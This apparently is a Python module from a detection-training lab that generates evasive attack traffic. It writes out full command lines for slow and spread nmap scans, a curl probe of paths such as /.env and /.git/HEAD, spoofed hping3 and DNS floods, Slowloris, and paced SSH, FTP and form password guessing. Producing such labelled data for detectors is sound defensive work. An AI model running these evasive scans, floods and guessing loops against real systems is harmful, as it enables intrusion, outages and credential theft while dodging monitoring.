"""Attacks that evade by their pace: slow scans, random gaps, floods of a tenth of a second, low rates, slow and spread guesses.

Recorded as `evade` to test, and with other values as `harden` to train. A mode's name begins with its kind.
"""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode
from training.lab.guessing import LABEL, own, ssh_loop
from training.lab.more_floods import HOLD, RAW
from training.lab.more_scans import SWEEP

KINDS = ("slowscan", "gaps", "short", "lowrate", "slowguess", "spread")

# Slow scans


@mode("Port Scan", "evade")
def slowscan_syn(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "nmap slow",
        f"nmap -n -Pn -sS -T2 --top-ports 100 --max-retries 0 {f.hidden(['', '--scan-delay 1s'], ['--scan-delay 600ms', '--scan-delay 1500ms'])} {v}",
        [v],
        25,
    )


@mode("Port Scan", "evade")
def slowscan_wide(f: Field) -> Run:
    return (
        "nmap slow sweep",
        f"nmap -n -Pn -sS -p {f.hidden(['22', '8443'], ['80', '23', '1883'])} --randomize-hosts --disable-arp-ping --max-rate {f.hidden([2, 4], [3, 6])} --max-retries 0 {f.range()}",
        [f.range()],
        25,
    )


@mode("OS Scan", "evade")
def slowscan_os(f: Field) -> Run:
    host = f.server
    return (
        "nmap -O slow",
        f"nmap -n -Pn -O --max-os-tries 1 --scan-delay {f.hidden(['400ms', '600ms'], ['300ms', '500ms'])} -p {f.ports(host)[0]},{f.rng.randint(3000, 9000)} {f.at(host)}",
        [f.at(host)],
        25,
    )


@mode("Vulnerability Scan", "evade")
def slowscan_web(f: Field) -> Run:
    return (
        "dirb slow",
        f"dirb {f.web()}/ {f.paths(120)} -S -r -z {f.hidden([800, 1200], [400, 600])} -a 'Mozilla/5.0 (Windows NT 10.0)'",
        [f.at("web")],
        25,
    )


# Random gaps


@mode("Port Scan", "evade")
def gaps_scan(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "sweep.py random gaps",
        f"{SWEEP} {v} 1-1000 --shuffle --gap {f.hidden([0.3, 0.9], [0.15, 0.5])} --random-gaps",
        [v],
        24,
    )


@mode("SYN Flood", "evade", spoofed=True)
def gaps_syn(f: Field) -> Run:
    rate = f.hidden([60, 200], [40, 120, 400])
    return (
        "rawflood.py syn, random gaps",
        f"{RAW} syn {f.at('web')} --sources random --ports {f.web_port} --rate {rate} --count {rate * 14} --random-gaps",
        [f.at("web")],
        20,
    )


@mode(LABEL, "evade")
def gaps_guess(f: Field) -> Run:
    return (
        "guess.py ftp, random gaps",
        *own(f, "ftp", "ftp", f"--pause {f.hidden([2.5], [1.5, 4])} --jitter 0.9 --seconds 22"),
        25,
    )


@mode("Vulnerability Scan", "evade")
def gaps_web(f: Field) -> Run:
    paths = f.list(
        "odd",
        [
            "/.git/HEAD",
            "/.env",
            "/wp-login.php",
            "/app/item?id=1%27",
            "/server-status",
            "/backup.zip",
            "/app/search?q=<script>",
            "/cgi-bin/x.cgi",
        ],
    )
    return (
        "curl scanner, random gaps",
        f"for i in 1 2 3; do for p in $(shuf {paths}); do curl -s -g -o /dev/null --max-time 4 {f.web()}$p; sleep $(shuf -e {f.hidden(['0.2 1 2.5'], ['0.1 0.6 1.8'])} -n 1); done; done",
        [f.at("web")],
        24,
    )


# Floods of a tenth of a second


@mode("SYN Flood", "evade", spoofed=True)
def short_syn(f: Field) -> Run:
    return (
        "hping3 -S, 0.1 s",
        f"for i in 1 2 3; do hping3 -q -S --rand-source -p {f.web_port} -i u{f.hidden([300, 700], [400, 1000])} -c {f.hidden([150, 300], [100, 220])} {f.at('web')}; sleep {f.hidden([4], [2, 6])}; done",
        [f.at("web")],
        18,
    )


@mode("UDP Flood", "evade")
def short_udp(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "hping3 -2, 0.1 s",
        f"for i in 1 2 3; do hping3 -q -2 -p {f.rng.randint(1000, 60000)} -i u{f.hidden([400], [300, 900])} -c {f.hidden([200], [100, 300])} -d {f.hidden([64], [20, 500])} {v}; sleep {f.hidden([4], [3, 5])}; done",
        [v],
        18,
    )


@mode("ICMP Flood", "evade")
def short_icmp(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "ping -f, 0.1 s",
        f"for i in 1 2 3; do ping -n -q -f -l {f.hidden([60], [40, 90])} -c {f.hidden([150], [80, 250])} -s {f.hidden([100], [56, 600])} {v}; sleep {f.hidden([4], [3, 5])}; done",
        [v],
        18,
    )


@mode("DNS Flood", "evade")
def short_dns(f: Field) -> Run:
    v, count = f.at("infra"), f.hidden([150], [90, 250])
    return (
        "rawflood.py dns, 0.1 s",
        f"{RAW} dns {v} --sources {f.at('att')} --ports 53 --zone {f.capture.zones[0]} --type {f.hidden([28], [1, 16])} --rate {f.hidden([1500], [1000, 2500])} --count {count * 4} --bursts 4",
        [v],
        16,
    )


# Low rates


@mode("SYN Flood", "evade")
def lowrate_syn(f: Field) -> Run:
    rate = f.hidden([20], [12, 30])
    return (
        "nping --tcp, 20 a second",
        f"nping -q -N --tcp --flags syn -p {f.web_port} --rate {rate} -c {rate * 18} {f.at('web')}",
        [f.at("web")],
        22,
    )


@mode("UDP Flood", "evade")
def lowrate_udp(f: Field) -> Run:
    v, rate = f.at(f.server), f.hidden([20], [12, 35])
    return (
        "rawflood.py udp, 20 a second",
        f"{RAW} udp {v} --sources {f.at('att')} --ports 1-60000 --sizes {f.hidden(['64'], ['10-300', '400'])} --rate {rate} --count {rate * 18}",
        [v],
        22,
    )


@mode("ICMP Flood", "evade")
def lowrate_icmp(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "ping, 20 a second",
        f"ping -n -q -i {f.hidden([0.05], [0.03, 0.08])} -w 18 -s {f.hidden([200], [56, 700])} {v}",
        [v],
        22,
    )


@mode("DNS Flood", "evade")
def lowrate_dns(f: Field) -> Run:
    names = [f"x{f.rng.randrange(16**6):06x}.{f.rng.choice(f.capture.zones)} A" for _ in range(600)]
    return (
        "dnsperf, 20 a second",
        f"dnsperf -s {f.at('infra')} -d {f.list('names', names)} -Q {f.hidden([20], [12, 30])} -l 18",
        [f.at("infra")],
        22,
    )


@mode("Slowloris", "evade")
def lowrate_slow(f: Field) -> Run:
    return (
        "slowhold.py, ten sockets",
        f"{HOLD} {f.hidden(['headers'], ['headers', 'body'])} {f.at('web')} {f.web_port} --path /app/upload --sockets {f.hidden([10], [6, 14])} --spread 6 --pause {f.hidden([3], [2, 5])} --seconds 20",
        [f.at("web")],
        24,
    )


# Slow guesses


@mode(LABEL, "evade")
def slowguess_ssh(f: Field) -> Run:
    return "sshpass loop, slow", ssh_loop(f, 8, "", f"sleep {f.hidden([10], [5, 8])}"), [f.at("files")], 34


@mode(LABEL, "evade")
def slowguess_form(f: Field) -> Run:
    return "guess.py basic, slow", *own(f, "basic", "http", f"--pause {f.hidden([10], [5, 8])} --jitter 0.2 --seconds 30"), 34


@mode(LABEL, "evade")
def slowguess_ftp(f: Field) -> Run:
    return "guess.py ftp, slow", *own(f, "ftp", "ftp", f"--pause {f.hidden([9], [4, 7])} --jitter 0.2 --seconds 30"), 34


# Spread over four sources


def _sources(f: Field) -> list[str]:
    return [a for a in f.capture.host("att").plain() if ":" not in a]


@mode(LABEL, "evade")
def spread_ftp_many(f: Field) -> Run:
    return (
        "guess.py ftp, four hosts",
        *own(
            f,
            "ftp",
            "ftp",
            f"--sources {','.join(_sources(f))} --parallel {f.hidden([4], [2, 6])} --pause {f.hidden([2], [1, 3])} --jitter 0.3 --seconds 20",
        ),
        24,
    )


@mode(LABEL, "evade")
def spread_ssh_many(f: Field) -> Run:
    loops = " & ".join(f"({ssh_loop(f, 20, f'-b {source}', f'sleep {f.hidden([2], [1, 4])}')})" for source in _sources(f))
    return "sshpass loop, four hosts", f"{loops} & wait", [f.at("files")], 24


@mode(LABEL, "evade", needs=("forms",))
def spread_form_many(f: Field) -> Run:
    return (
        "guess.py form, four hosts",
        *own(
            f,
            "form",
            "forms",
            f"--sources {','.join(_sources(f))} --parallel {f.hidden([4], [1, 8])} --pause {f.hidden([3], [1, 4])} --jitter 0.5 --seconds 20",
        ),
        24,
    )


@mode("Port Scan", "evade")
def spread_scan_many(f: Field) -> Run:
    """Each source asks a quarter of the ports."""
    v = f.at("files")
    runs = " & ".join(
        f"nmap -n -Pn -sS -S {source} -e eth0 -p {1 + 60 * i}-{60 + 60 * i} --max-retries 0 --max-rate {f.hidden([6], [4, 12])} {v}"
        for i, source in enumerate(_sources(f))
    )
    return "nmap -S, four hosts", f"{runs} & wait", [v], 24
